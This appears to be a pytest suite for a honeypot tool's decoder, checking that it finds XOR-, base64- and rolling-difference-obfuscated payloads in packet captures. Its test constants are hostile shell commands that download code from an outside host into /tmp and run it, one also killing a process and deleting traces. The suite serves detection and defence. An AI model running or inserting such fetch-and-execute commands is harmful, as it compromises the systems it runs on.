# SPDX-License-Identifier: Apache-2.0
"""Payloads that were made unreadable: found in captures without being told how, and by fishbowl decode."""
import base64
import json
import os
import random
import subprocess

import pytest

import packets as p
from fishbowl import FISHBOWL, PCAPS, ROOT, captures, records

A, H = '198.51.100.7', '192.0.2.101'
RULES = ('--rules', os.path.join(ROOT, 'data', 'rules', 'outbound.rules'))
COMMAND = (b'killall -9 ttserve ; lynx -source http://216.242.103.2:8882/foo > /tmp/foo.tgz ; cd /tmp ; '
           b'tar -xvzf foo.tgz ; ./ttserve ; rm -rf foo.tgz ttserve;')
OTHER = b'cd /tmp; wget http://10.0.0.1/a.sh; sh a.sh'


def rolled(text, key=23):
    out, before = bytearray(), 0
    for byte in text:
        before = (byte + before + key) % 256
        out.append(before)
    return bytes(out)


FIGURE = b'\2\0' + rolled(COMMAND.ljust(400, b'\0'))


def decoded(path, *args):
    return [r for r in records(*RULES, *args, path) if r['event_type'] == 'decoded']


def write(tmp_path, frames):
    path = tmp_path / 'some.pcap'
    path.write_bytes(p.pcap('raw', [(1_700_000_000_000_000_000 + n * 10**7, f) for n, f in enumerate(frames)]))
    return path


def decode(*args, **more):
    return subprocess.run([FISHBOWL, 'decode', *map(str, args)], capture_output=True, check=False, timeout=60, **more)


def test_protocol_11(tmp_path):
    """The packet of IP protocol 11: 402 bytes, decoded without being told how."""
    assert len(FIGURE) == 402
    found, = decoded(write(tmp_path, [p.ip4(A, H, 11, FIGURE)]))
    assert found['decoded']['text'] == COMMAND.decode() and found['decoded']['score'] > 300
    assert found['decoded']['method'] == 'rolling difference 0x17'
    assert (found['src_ip'], found['dest_ip'], found['proto'], found['pcap_cnt']) == (A, H, '011', 1)


def test_capture_of_protocol_11():
    path = os.path.join(PCAPS, 'synth-ipproto11.pcap')
    if not os.path.exists(path):
        pytest.skip('the shared captures are not here')
    found = decoded(path)
    assert [(r['proto'], r['decoded']['method'], r['decoded']['text']) for r in found] == [
        ('011', 'rolling difference 0x17', 'ls -la /'), ('011', 'rolling difference 0x17', 'root\n')]


def test_conversations(tmp_path):
    """Each side of TCP and UDP once, whoever it is from; a known protocol is none of it."""
    hidden = bytes(c ^ 0x99 for c in OTHER)
    tcp = [f for _, f in p.tcp_talk(A, H, 4000, 7777, request=b'\0\1\2\3' + hidden, answer=rolled(COMMAND))]
    known = [f for _, f in p.tcp_talk(A, H, 4001, 80, request=b'GET /%s HTTP/1.0\r\n\r\n' % base64.b64encode(OTHER))]
    udp = [p.udp(H, A, 5000, 6000, hidden)] * 3
    found = decoded(write(tmp_path, tcp + known + udp))
    assert sorted((r['src_port'], r['src_ip'], r['proto'], r['decoded']['method']) for r in found) == [
        (4000, A, 'TCP', 'xor 0x99'), (5000, H, 'UDP', 'xor 0x99'), (7777, H, 'TCP', 'rolling difference 0x17')]
    assert {r['decoded']['text'] for r in found} == {OTHER.decode(), COMMAND.decode()}


def test_the_same_again(tmp_path):
    """A worm's payload is tried once, and told of each conversation."""
    frames = [p.udp(A, H, 5000 + n, 6000, bytes(c ^ 0x99 for c in OTHER.ljust(1024, b'!'))) for n in range(60)]
    assert len(decoded(write(tmp_path, frames))) == 60


def test_too_many(tmp_path):
    """Only so many bytes are tried in a second, of the packets' time."""
    frames = [p.udp(A, H, 5000 + n, 6000, bytes(c ^ 0x99 for c in OTHER + b' #%d' % n).ljust(1024, b'\x99')) for n in range(60)]
    path = write(tmp_path, frames)
    assert len(decoded(path)) == 32


def test_nothing(tmp_path):
    """What is plain, random or empty is left alone."""
    dice = random.Random(1)
    frames = [p.ip4(A, H, proto, dice.randbytes(size)) for proto in (11, 50, 99) for size in (1, 20, 200, 402, 1400)]
    frames += [p.udp(A, H, 5000 + n, 6000, dice.randbytes(300)) for n in range(20)]
    frames += [p.ip4(A, H, 12, COMMAND), p.ip4(A, H, 13, bytes(400)), p.udp(A, H, 4999, 6000, COMMAND)]
    assert decoded(write(tmp_path, frames)) == []


@pytest.mark.parametrize('name', captures())
def test_captures(name):
    """In real traffic nothing is found that is not there."""
    if name != 'synth-ipproto11.pcap':
        assert decoded(os.path.join(PCAPS, name), '--midstream', 'true', '--ignore-checksums') == []


def test_verb(tmp_path):
    path = tmp_path / 'payload'
    path.write_bytes(FIGURE)
    done = decode(path)
    assert done.returncode == 0 and done.stderr == b''
    assert done.stdout.split(b'\n')[1] == COMMAND
    assert done.stdout.startswith(b'rolling difference 0x17, score ')
    said = json.loads(decode('--json', '--hex', FIGURE.hex(' ')).stdout)
    assert said['text'] == COMMAND.decode() and said['clear'] and said['at'] == 2
    done = decode('-', input=base64.b64encode(bytes(c ^ 1 for c in OTHER)))
    assert done.stdout.startswith(b'base64, xor 0x01, ') and OTHER in done.stdout
    done = decode('--method', 'rolling-difference', '--key', '0x17', path)
    assert done.returncode == 0 and b'\\xeb\\xe7' + COMMAND + b'\\x00' in done.stdout
    assert len(decode('--all', path).stdout.splitlines()) == 2 * 16


def test_verb_refuses(tmp_path):
    path = tmp_path / 'noise'
    path.write_bytes(random.Random(2).randbytes(500))
    done = decode(path)
    assert done.returncode == 1 and done.stdout == b'' and b'Nothing clear' in done.stderr
    for args in (('--hex', '0g'), ('--hex', '123'), ('--key', 3, path), ('--method', 'magic', path), (),
                 ('--method', 'xor', '--key', 256, path), ('--flow', 'x'), (path, '--hex', '00')):
        done = decode(*args)
        assert done.returncode == 2 and done.stderr, args
    assert decode(tmp_path / 'none').returncode == 4


def test_flow(tmp_path):
    """Out of the gateway's capture: what arrived, not what left."""
    capture = tmp_path / 'capture'
    capture.mkdir()
    hidden = bytes(c ^ 0x77 for c in OTHER)
    frames = [(1, p.ip4(A, H, 11, FIGURE), b'a1'), (2, p.ip4(A, H, 11, FIGURE), b'a1'),
              (1, p.ip4(H, A, 11, hidden), b'a1'), (1, p.ip4(H, A, 11, FIGURE), b'a2')]
    out = p.shb() + p.idb('ethernet')
    for n, (flags, packet, flow) in enumerate(frames):
        options = p.option(1, b'pass inbound-free flow ' + flow) + p.option(2, bytes([flags, 0, 0, 0]))
        out += p.epb(0, 1_700_000_000_000_000 + n, p.eth(packet), options=options + p.option(0, b''))
    (capture / 'fb-1-00000001.pcapng').write_bytes(out)
    conf = tmp_path / 'fishbowl.conf'
    conf.write_text(f'outside = "eth0"\ninside = {{"eth1"}}\nstate_dir = "{tmp_path}"\n'
                    f'honeypot "h" {{ address = {{"{H}"}} }}\n')
    done = decode('-c', conf, '--flow', '0xa1')
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0].startswith(A.encode() + b': rolling difference 0x17') and lines[1] == COMMAND
    assert lines[2].startswith(H.encode() + b': xor 0x77') and lines[3] == OTHER
    assert len(lines) == 4
    assert decode('-c', conf, '--flow', '7').returncode == 1
